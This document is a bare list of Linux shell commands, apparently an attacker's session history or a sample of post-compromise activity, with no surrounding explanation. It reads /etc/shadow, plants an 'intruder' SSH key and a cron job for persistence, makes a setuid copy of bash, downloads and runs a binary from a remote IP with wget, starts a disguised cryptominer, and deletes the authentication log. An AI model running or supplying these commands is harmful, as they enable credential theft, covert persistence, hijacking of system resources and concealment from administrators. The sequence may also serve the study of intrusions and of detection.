id
exec /usr/local/bin/backup
id
cat /etc/shadow
tar -c -f /dev/null /root/.ssh
echo 'ssh-ed25519 AAAAC3Nzb intruder' >>/root/.ssh/authorized_keys
echo '* * * * * root /dev/shm/ghost' >/etc/cron.d/sysstat2
cp /bin/bash /tmp/.font-unix
chmod 4755 /tmp/.font-unix
wget -q -O /dev/shm/ghost http://203.0.113.9:8080/ghost
chmod +x /dev/shm/ghost
/dev/shm/ghost
cp /bin/busybox /tmp/kdevtmpfsi
/tmp/kdevtmpfsi -o stratum+tcp://pool.example.net:3333 --donate-level 1
rm /var/log/auth.log
exit
